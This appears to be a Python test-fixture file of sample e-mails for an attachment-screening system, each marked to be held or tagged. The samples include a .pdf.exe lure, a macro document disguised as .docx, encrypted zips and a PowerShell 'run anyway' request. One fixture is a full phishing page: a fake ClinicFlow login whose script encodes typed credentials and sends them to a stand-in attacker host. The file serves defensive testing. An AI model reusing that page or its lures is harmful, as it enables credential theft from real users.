MESSAGES = [
    {
        "id": "at-statement-pdf-exe-to-supplier",
        "from": "Kwame Boateng <accounts.payable@aurelleclinics.example>",
        "to": ["Credit Control <creditcontrol@sterlingmed.example>"],
        "subject": "Statement reconciliation - account AUR0001 - April",
        "date": "2026-05-06 10:31",
        "body": [
            "Good morning,",
            "Please find attached our statement reconciliation for April. There are three items on your statement that we can't match to a delivery; could you send PODs for them?",
            "Kind regards\nKwame Boateng\nAccounts Payable | Aurelle Clinics Ltd",
        ],
        "attachments": [
            {"kind": "program", "name": "AUR0001_Statement_Recon_April.pdf.exe", "flavour": "exe"}
        ],
        "accept": ["hold"],
        "categories": ["attachment"],
        "note": "A Windows program disguised with a .pdf.exe double extension.",
    },
    {
        "id": "at-js-inside-font-pack-zip",
        "from": "Jaden Okafor <jaden.okafor@aurelleclinics.example>",
        "to": ["Nat Holloway <nat@brightlineprint.example>"],
        "subject": "fonts for the vinyls",
        "date": "2026-02-25 09:14",
        "body": [
            "morning Nat, the font pack you asked for. there's an installer script in there that does it all for you apparently, just double click it",
            "J",
        ],
        "attachments": [
            {
                "kind": "zip",
                "name": "Aurelle_brand_fonts.zip",
                "members": [
                    {"kind": "text", "name": "README.txt", "text": ["Aurelle brand fonts: Aurelle Serif and Aurelle Sans. Run install_fonts.js to install."]},
                    {"kind": "program", "name": "install_fonts.js", "flavour": "js"},
                ],
            }
        ],
        "accept": ["hold"],
        "categories": ["attachment"],
        "note": "A JavaScript file inside a zip attachment.",
    },
    {
        "id": "at-html-login-page-forwarded-to-franchisees",
        "from": "Dionne Ashworth <dionne.ashworth@aurelleclinics.example>",
        "to": ["South Franchise Partners <south.partners@aurelleclinics.example>"],
        "subject": "FW: ACTION: re-validate your ClinicFlow account by Friday",
        "date": "2026-09-30 08:22",
        "body": [
            "All - see below from ClinicFlow. Please open the attached page and log in before Friday or your diaries will be locked.",
            "Dionne",
            "-----Original Message-----\nFrom: ClinicFlow Security <security@clinicflow-verify.example>\nSent: 29 September 2026 23:10\nSubject: ACTION: re-validate your ClinicFlow account by Friday\n\nDear user, to comply with new security rules, open the attached page and log in to re-validate your account.",
        ],
        "attachments": [
            {
                "kind": "html",
                "name": "ClinicFlow_Account_Validation.html",
                "html": "<html><head><title>ClinicFlow Sign in</title><meta http-equiv=\"refresh\" content=\"30;url=https://clinicflow-verify.example/login\"></head><body><h2>ClinicFlow</h2><p>Sign in to re-validate your account</p><form action=\"https://clinicflow-verify.example/collect.php\" method=\"post\"><input name=\"email\" placeholder=\"Work e-mail\"><input name=\"password\" type=\"password\" placeholder=\"Password\"><button>Sign in</button></form><script>document.forms[0].onsubmit=function(){var i=new Image();i.src='https://clinicflow-verify.example/p?d='+btoa(document.forms[0].email.value+':'+document.forms[0].password.value);};</script></body></html>",
            }
        ],
        "accept": ["hold"],
        "categories": ["attachment"],
        "note": "HTML attachment with a credential form, script and redirect to an outside login page.",
    },
    {
        "id": "at-powershell-signature-fix-to-sites",
        "from": "Office Services <facilities@aurelleclinics.example>",
        "to": ["All Franchise Partners <franchisepartners@aurelleclinics.example>"],
        "subject": "New e-mail signature - run the attached on each PC",
        "date": "2026-01-19 11:00",
        "body": [
            "Hi all,",
            "To roll out the new Aurelle e-mail signature, please right-click the attached file on each reception PC and choose 'Run with PowerShell'. It takes about 30 seconds and restarts Outlook.",
            "If Windows warns you, click 'More info' then 'Run anyway'.",
            "Thanks,\nOffice Services, Aurelle HQ",
        ],
        "attachments": [
            {"kind": "program", "name": "Set-AurelleSignature.ps1", "flavour": "ps1"}
        ],
        "accept": ["hold"],
        "categories": ["attachment"],
        "note": "A PowerShell script attached for recipients to run.",
    },
    {
        "id": "at-macro-franchise-agreement-docx",
        "from": "Imogen Achterberg <imogen.achterberg@aurelleclinics.example>",
        "to": ["Rachel Ogden <r.ogden@ogdenlaw.example>"],
        "subject": "Franchise agreement 2027 - template for your client's review",
        "date": "2026-11-16 14:45",
        "body": [
            "Dear Ms Ogden,",
            "As discussed, I attach the 2027 form of franchise agreement for your client's review. The schedules populate automatically from the cover sheet, so please enable editing and content when prompted.",
            "Kind regards,\nImogen Achterberg\nHead of Legal & Company Secretary, Aurelle Clinics Ltd",
        ],
        "attachments": [
            {"kind": "program", "name": "Aurelle_Franchise_Agreement_2027.docx", "flavour": "macro_docx"}
        ],
        "accept": ["hold", "tag"],
        "categories": ["attachment"],
        "note": "A macro-enabled Word document disguised with a .docx name; cannot be verified.",
    },
    {
        "id": "at-encrypted-payroll-zip-to-bureau",
        "from": "Hannah Oyelaran <hannah.oyelaran@aurelleclinics.example>",
        "to": ["Payroll <payroll@ledgerlinebureau.example>"],
        "subject": "October payroll changes - HQ",
        "date": "2026-10-20 16:10",
        "body": [
            "Hi team,",
            "October starters, leavers and changes for the HQ payroll attached. The zip is password protected; I'll text the password to Joanne.",
            "Thanks,\nHannah",
        ],
        "attachments": [
            {
                "kind": "zip",
                "name": "HQ_payroll_changes_Oct26.zip",
                "encrypt": "Cabot22!",
                "members": [
                    {"kind": "xlsx", "name": "HQ_payroll_changes_Oct26.xlsx", "sheets": [{"name": "Changes", "rows": [["Name", "Change", "Effective"], ["Aisha Rahman", "Starter", "03/08/2026"]], "hidden": False}]},
                ],
            }
        ],
        "accept": ["hold", "tag"],
        "categories": ["attachment"],
        "note": "Encrypted zip: its contents cannot be screened.",
    },
    {
        "id": "at-corrupt-board-pack-pdf",
        "from": "Anjali Mehta <anjali.mehta@aurelleclinics.example>",
        "to": ["Caroline Whitfield <caroline.whitfield@whitfieldadvisory.example>", "Rajesh Nair <raj.nair@btinternet.example>"],
        "subject": "Board pack 24 Sept - consolidated PDF",
        "date": "2026-09-18 22:58",
        "body": [
            "Dear both,",
            "The consolidated board pack is attached as one PDF, as requested. Apologies for the late hour, the export took ages.",
            "Anjali",
        ],
        "attachments": [
            {"kind": "program", "name": "Board_Pack_2026-09-24_consolidated.pdf", "flavour": "corrupt_pdf"}
        ],
        "accept": ["hold", "tag"],
        "categories": ["attachment"],
        "note": "Truncated, corrupt PDF that cannot be read.",
    },
    {
        "id": "at-encrypted-lease-pdf-to-landlord",
        "from": "Steve Barraclough <steve.barraclough@aurelleclinics.example>",
        "to": ["Property Management <pm@quaysideestates.example>"],
        "subject": "re: unit 4 scunthorpe - lease with our marked up clauses",
        "date": "2026-02-02 13:40",
        "body": [
            "lease attached with legal's mark up on clause 7.3. it's locked, password is the unit postcode no spaces.",
            "steve\nSent from my iPhone",
        ],
        "attachments": [
            {
                "kind": "pdf",
                "name": "Unit4_Frodingham_Lease_marked.pdf",
                "encrypt": "DN156TQ",
                "pages": [["Lease of Unit 4, Frodingham Parade, Scunthorpe.", "Clause 7.3: The Landlord shall keep the roof in good repair."]],
            }
        ],
        "accept": ["hold", "tag"],
        "categories": ["attachment"],
        "note": "Password-protected PDF that cannot be screened.",
    },
]
